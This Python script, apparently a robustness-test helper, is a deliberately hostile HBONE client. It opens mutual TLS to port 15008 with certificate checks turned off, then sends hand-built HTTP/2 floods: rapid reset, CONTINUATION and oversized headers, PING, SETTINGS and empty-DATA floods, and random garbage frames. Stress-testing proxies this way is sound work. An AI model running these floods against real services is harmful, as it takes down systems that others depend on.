"""A client of HBONE that means harm: hostile.py ATTACK ADDRESS [CHAIN KEY] [AUTHORITY...]

It speaks TLS with the certificate that it is given (any pod's agent has one), and frames by hand. It prints "up" once
the attack has begun, and ends when it is done, or when the other side has had enough.
"""

import os
import socket
import ssl
import struct
import sys

attack, address = sys.argv[1:3]
chain, key = sys.argv[3:5]
authorities = [os.fsencode(authority) for authority in sys.argv[5:]]

DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def text(value):
    # An HPACK string without Huffman's coding (RFC 7541, 5.2), its length a prefixed integer (5.1).
    if len(value) < 127:
        return bytes([len(value)]) + value
    rest, length = len(value) - 127, b"\x7f"
    while rest >= 128:
        length += bytes([rest % 128 + 128])
        rest //= 128
    return length + bytes([rest]) + value


def connect(authority):
    # Literals without indexing, with names of the static table: 2 is :method, 1 is :authority.
    return b"\x02" + text(b"CONNECT") + b"\x01" + text(authority)


def garbage():
    while True:
        yield os.urandom(65536)


def frames_of_nonsense():
    # Whole frames of every kind there is, and of some that there are not.
    while True:
        kind, flags = os.urandom(2)
        yield frame(kind % 12, flags, struct.unpack(">I", os.urandom(4))[0] & 7, os.urandom(kind % 64))


def endless_headers():
    yield frame(HEADERS, 0, 1, connect(authorities[0]))
    for number in range(1 << 16):
        yield frame(CONTINUATION, 0, 1, b"\x00" + text(b"x-%d" % number) + text(b"y" * 8192))


def large_headers():
    block = connect(authorities[0]) + b"\x00" + text(b"baggage") + text(b"z" * 12000)
    for number in range(2000):
        yield frame(HEADERS, END_HEADERS, 2 * number + 1, block)


def rapid_reset():
    for number in range(20000):
        stream = 2 * number + 1
        yield frame(HEADERS, END_HEADERS, stream, connect(authorities[0]))
        yield frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


def pings():
    for _ in range(200000):
        yield frame(PING, 0, 0, b"whatever")


def settings():
    for _ in range(200000):
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535))


def empty_data():
    yield frame(HEADERS, END_HEADERS, 1, connect(authorities[0]))
    for _ in range(200000):
        yield frame(DATA, 0, 1)


def requests():
    for number, authority in enumerate(authorities):
        yield frame(HEADERS, END_HEADERS, 2 * number + 1, connect(authority))


context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
context.check_hostname = False
context.verify_mode = ssl.CERT_NONE
context.set_alpn_protocols(["h2"])
context.load_cert_chain(chain, key)
family = socket.AF_INET6 if ":" in address else socket.AF_INET
plain = socket.socket(family)
plain.settimeout(20)
plain.connect((address, 15008))
sent = 0
try:
    tls = context.wrap_socket(plain)
    print("up", flush=True)
    if attack != "garbage":
        tls.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
    batch = b""
    # Nothing is read meanwhile: who answers everything must not collect the answers without bound.
    for piece in {
        "garbage": garbage,
        "nonsense": frames_of_nonsense,
        "endless-headers": endless_headers,
        "large-headers": large_headers,
        "rapid-reset": rapid_reset,
        "pings": pings,
        "settings": settings,
        "empty-data": empty_data,
        "requests": requests,
    }[attack]():
        batch += piece
        if len(batch) >= 16384:
            tls.sendall(batch)
            sent, batch = sent + len(batch), b""
    tls.sendall(batch)
    sent += len(batch)
    if attack == "requests":
        tls.settimeout(3)
        while tls.recv(65536):
            pass
    end = "done"
except (OSError, ssl.SSLError) as error:
    end = "%s: %s" % (type(error).__name__, error)
print(end, "after", sent, "bytes")
